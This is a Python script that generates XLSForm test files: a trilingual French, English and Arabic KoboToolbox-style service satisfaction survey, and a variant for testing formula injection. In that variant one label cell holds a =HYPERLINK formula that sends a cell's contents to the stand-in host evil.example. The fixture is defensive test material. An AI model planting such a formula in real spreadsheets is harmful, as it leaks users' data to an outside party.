"""Builds the XLSForm test files of this folder (run it again after changing them):

    .venv/bin/python tests/data/xlsform/make_files.py

- kobo_satisfaction.xlsx: a questionnaire as KoboToolbox exports one — labels and hints in
  French, English and Arabic (`label::French (fr)`…), Kobo's own `$kuid`/`$autoname` columns,
  `start`/`end` metadata rows, a group, notes before and after the questions, a 1–5 satisfaction
  scale worded its own way, skip logic written by Kobo's form builder, a `settings` sheet.
- hyperlink_injection.xlsx: the same form whose first label is the formula `=HYPERLINK(…)`.
"""

from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
LANGUAGES = ("French (fr)", "English (en)", "Arabic (ar)")

SURVEY = [
    [
        "type",
        "name",
        *[f"label::{x}" for x in LANGUAGES],
        *[f"hint::{x}" for x in LANGUAGES],
        "required",
        "relevant",
        "constraint",
        "appearance",
        "$kuid",
        "$autoname",
    ],
    ["start", "start", None, None, None, None, None, None, None, None, None, None, "k1", "start"],
    ["end", "end", None, None, None, None, None, None, None, None, None, None, "k2", "end"],
    [
        "note",
        "bienvenue",
        "Bienvenue ! Vos réponses sont anonymes.",
        "Welcome! Your answers are anonymous.",
        "مرحبا! إجاباتك مجهولة الهوية.",
        None,
        None,
        None,
        None,
        None,
        None,
        None,
        "k3",
        "bienvenue",
    ],
    [
        "begin_group",
        "services",
        "Nos services",
        "Our services",
        "خدماتنا",
        None,
        None,
        None,
        None,
        None,
        None,
        "field-list",
        "k4",
        "services",
    ],
    [
        "select_one service",
        "service_used",
        "Quel service avez-vous utilisé ?",
        "Which service did you use?",
        "ما الخدمة التي استخدمتها؟",
        "Choisissez-en un.",
        "Choose one.",
        "اختر واحدة.",
        "true",
        None,
        None,
        None,
        "k5",
        "service_used",
    ],
    [
        "select_one satisfaction",
        "accueil",
        "Êtes-vous satisfait de l'accueil ?",
        "Are you satisfied with the welcome?",
        "هل أنت راضٍ عن الاستقبال؟",
        None,
        None,
        None,
        "true",
        None,
        None,
        "likert",
        "k6",
        "accueil",
    ],
    ["end_group", None, None, None, None, None, None, None, None, None, None, None, "k7", None],
    [
        "select_multiple source",
        "Source",
        "Comment nous avez-vous connus ?",
        "How did you hear about us?",
        "كيف سمعت عنا؟",
        None,
        None,
        None,
        "false",
        None,
        None,
        "minimal",
        "k8",
        "Source",
    ],
    [
        "integer",
        "visits",
        "Combien de fois êtes-vous venu ?",
        "How many times did you come?",
        "كم مرة أتيت؟",
        None,
        None,
        None,
        "false",
        "${service_used} = 'logement'",
        ". >= 0 and . <= 100",
        None,
        "k9",
        "visits",
    ],
    [
        "integer",
        "nps",
        "Recommanderiez-vous l'organisme (0 à 10) ?",
        "Would you recommend us (0 to 10)?",
        "هل توصي بنا (من 0 إلى 10)؟",
        None,
        None,
        None,
        "true",
        None,
        ". >= 0 and . <= 10",
        None,
        "k10",
        "nps",
    ],
    [
        "text",
        "ameliorer",
        "Que pourrions-nous améliorer ?",
        "What could we improve?",
        "ما الذي يمكننا تحسينه؟",
        None,
        None,
        None,
        "false",
        "${nps} <= 6",
        None,
        "multiline",
        "k11",
        "ameliorer",
    ],
    [
        "text",
        "autre_source",
        "Par quel autre moyen ?",
        "How else?",
        "بأي طريقة أخرى؟",
        None,
        None,
        None,
        "false",
        "selected(${Source}, 'autre')",
        None,
        None,
        "k12",
        "autre_source",
    ],
    [
        "note",
        "merci",
        "Merci de votre temps !",
        "Thank you for your time!",
        "شكرا على وقتك!",
        None,
        None,
        None,
        None,
        None,
        None,
        None,
        "k13",
        "merci",
    ],
]

CHOICES = [
    ["list_name", "name", *[f"label::{x}" for x in LANGUAGES], "$autovalue"],
    ["service", "logement", "Logement", "Housing", "السكن", "logement"],
    ["service", "emploi", "Emploi", "Employment", "العمل", "emploi"],
    ["service", "francisation", "Francisation", "French classes", "دروس الفرنسية", "francisation"],
    ["satisfaction", 1, "Très insatisfait", "Very dissatisfied", "غير راضٍ جدًا", "1"],
    ["satisfaction", 2, "Insatisfait", "Dissatisfied", "غير راضٍ", "2"],
    ["satisfaction", 3, "Neutre", "Neutral", "محايد", "3"],
    ["satisfaction", 4, "Satisfait", "Satisfied", "راضٍ", "4"],
    ["satisfaction", 5, "Très satisfait", "Very satisfied", "راضٍ جدًا", "5"],
    ["source", "amis", "Des amis", "Friends", "الأصدقاء", "amis"],
    ["source", "bibliotheque", "La bibliothèque", "The library", "المكتبة", "bibliotheque"],
    ["source", "autre", "Autre", "Other", "أخرى", "autre"],
]

SETTINGS = [
    ["form_title", "form_id", "default_language", "version"],
    ["Satisfaction des services (Kobo)", "satisfaction_kobo", "French (fr)", "2024110101"],
]


def workbook(survey=SURVEY, choices=CHOICES, settings=SETTINGS) -> Workbook:
    book = Workbook()
    book.active.title = "survey"
    for title, rows in (("survey", survey), ("choices", choices), ("settings", settings)):
        sheet = book[title] if title == "survey" else book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    return book


def main() -> None:
    workbook().save(HERE / "kobo_satisfaction.xlsx")
    injected = workbook()
    injected["survey"]["C6"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    injected.save(HERE / "hyperlink_injection.xlsx")


if __name__ == "__main__":
    main()
